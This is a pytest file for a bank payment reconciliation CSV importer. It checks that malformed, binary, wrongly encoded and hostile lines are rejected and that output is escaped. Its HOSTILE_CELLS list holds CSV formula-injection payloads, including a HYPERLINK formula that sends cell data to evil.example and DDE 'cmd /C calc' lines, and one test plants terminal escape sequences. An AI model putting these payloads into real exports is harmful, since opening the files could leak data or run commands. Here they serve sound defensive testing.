"""A bank's reconciliation file as it really arrives: odd encodings, stray bytes, hostile cells.

Each bad line becomes a reject line with its reason and its physical line number; the import goes on; a
file that is not a CSV at all stops with one clear line. The rejects file and the terminal are safe to
open: no cell runs as a formula, no control character reaches the terminal.
"""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, insert, select

from bot.app.services import Services
from bot.domain.safe_text import FORMULA_STARTS
from bot.jobs.reconciliation import ImportReport
from storage.models import Payment, PaymentException
from tests.support.cli import bpu_bot
from tests.support.seed import nik_for, seed_participants

HEADER = "reference,channel,nik,amount,months,paid_at"
PAID_AT = "2026-11-10T09:15:00+07:00"


@pytest.fixture(autouse=True)
def pay_day(clock: list[datetime]) -> None:
    clock[0] = datetime(2026, 11, 10, 5, 0, tzinfo=UTC)


@pytest.fixture
async def seeded(services: Services) -> list[str]:
    return await seed_participants(services.db, services.vault, 20, first_month=date(2026, 11, 1))


def good(n: int) -> str:
    return f"BANK-{n},bank,{nik_for(n)},8400,1,{PAID_AT}"


async def import_bytes(services: Services, tmp_path: Path, content: bytes) -> ImportReport:
    path = tmp_path / "rekon.csv"
    path.write_bytes(content)
    return await services.payments.import_csv(path)


def reasons(report: ImportReport) -> dict[int, str]:
    return {line: reason for line, _row, reason in report.problems}


async def test_bad_lines_are_rejected_with_their_physical_line_and_the_import_goes_on(
    services: Services, seeded: list[str], tmp_path: Path
) -> None:
    lines = [
        HEADER.encode(),  # 1
        good(0).encode(),  # 2
        b"",  # 3: blank, counted
        b"BANK-X1,bank,\xe9\xe9," + nik_for(1).encode() + b",8400,1," + PAID_AT.encode(),  # 4: Latin-1 bytes
        good(2).encode(),  # 5
        b"BANK-X2,bank," + b"9" * 200_000 + b",8400,1," + PAID_AT.encode(),  # 6: a field over 128 KB
        b'"BANK-X3,bank,' + nik_for(3).encode() + b",8400,1," + PAID_AT.encode(),  # 7: unterminated quote
        good(4).encode(),  # 8: not swallowed by line 7's quote
        b"BANK-X4\x00,bank," + nik_for(5).encode() + b",8400,1," + PAID_AT.encode(),  # 9: a NUL
        f"BANK-X5,bank,{nik_for(6)},²,1,{PAID_AT}".encode(),  # 10: amount ²
        b"\x00\x01\x02\xff\xfe binary \x89PNG",  # 11: binary garbage
        b"BANK-X6,bank,1,2",  # 12: too few fields
        good(7).encode(),  # 13
    ]
    report = await import_bytes(services, tmp_path, b"\r\n".join(lines) + b"\r\n")
    assert report.applied == 4
    found = reasons(report)
    assert sorted(found) == [4, 6, 7, 9, 10, 11, 12]
    assert "not UTF-8" in found[4]
    assert "longer than" in found[6]
    assert "unterminated quote" in found[7]
    assert "reference" in found[9]
    assert "amount" in found[10]
    assert found[11]
    assert "fields" in found[12]
    async with services.db.transaction() as db:
        assert (await db.execute(select(func.count()).select_from(Payment))).scalar_one() == 4


async def test_a_utf16_file_from_excel_is_read(services: Services, seeded: list[str], tmp_path: Path) -> None:
    text = "\r\n".join([HEADER, good(0), good(1)]) + "\r\n"
    report = await import_bytes(services, tmp_path, codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    assert (report.applied, report.rejected) == (2, 0)


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        b"reference;kanal;nik\r\n1;2;3",
        b"",
        "\r\n".join([HEADER, good(0)]).encode("utf-16-le"),  # UTF-16 without its BOM
    ],
    ids=["binary", "wrong header", "empty", "utf-16 without BOM"],
)
async def test_a_file_that_is_no_reconciliation_csv_stops_with_one_clear_line(
    services: Services, database_url: str, data_key: str, tmp_path: Path, content: bytes
) -> None:
    path = tmp_path / "rekon.csv"
    path.write_bytes(content)
    done = await bpu_bot(database_url, tmp_path, "payments", "import", str(path), DATA_KEY=data_key)
    assert done.returncode == 2
    assert done.stdout == ""
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert "header" in done.stderr
    assert "Traceback" not in done.stderr


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\x1b[2J\x1b[31mmerah",
]


def owasp_formula_cells(text: str) -> list[str]:
    """Every cell a spreadsheet would read as a formula (OWASP CSV injection rules)."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_STARTS)]


async def test_the_rejects_file_opens_with_no_formula_and_no_control_character(
    services: Services, seeded: list[str], tmp_path: Path, database_url: str, data_key: str
) -> None:
    rows = [HEADER]
    for n, hostile in enumerate(HOSTILE_CELLS):
        cells = [f"R-{n}", "bank", "3171011708859999", "8400", "1", PAID_AT]  # no such participant
        cells[n % 6] = hostile  # in every column in turn: reference, channel, nik, amount, months, paid_at
        rows.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    path = tmp_path / "rekon.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8", newline="")
    done = await bpu_bot(database_url, tmp_path, "payments", "import", str(path), DATA_KEY=data_key)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr
    rejects = (tmp_path / "rekon.rejects.csv").read_text(encoding="utf-8")
    assert len(list(csv.DictReader(io.StringIO(rejects)))) == len(HOSTILE_CELLS)
    assert owasp_formula_cells(rejects) == []
    assert "\x1b" not in rejects
    assert "\t" not in rejects
    assert "'=HYPERLINK(" in rejects  # shown as given, as text


async def test_the_exceptions_list_escapes_what_would_steer_the_terminal(
    services: Services, database_url: str, data_key: str, tmp_path: Path
) -> None:
    async with services.db.transaction() as db:  # a row kept before references were checked
        await db.execute(
            insert(PaymentException).values(
                reference="\x1b]0;pwned\x07\x1b[2JR-1",
                channel="bri\r\n",
                nik_last4="0009",
                amount=8400,
                months=1,
                paid_at=datetime(2026, 11, 10, tzinfo=UTC),
                reason="unknown_nik",
                detail="no participant has this NIK\x1b[31m",
            )
        )
    done = await bpu_bot(database_url, tmp_path, "payments", "exceptions", DATA_KEY=data_key)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout
    assert "\x07" not in done.stdout
    assert "\r" not in done.stdout
    assert "\\x1b]0;pwned\\x07\\x1b[2JR-1" in done.stdout
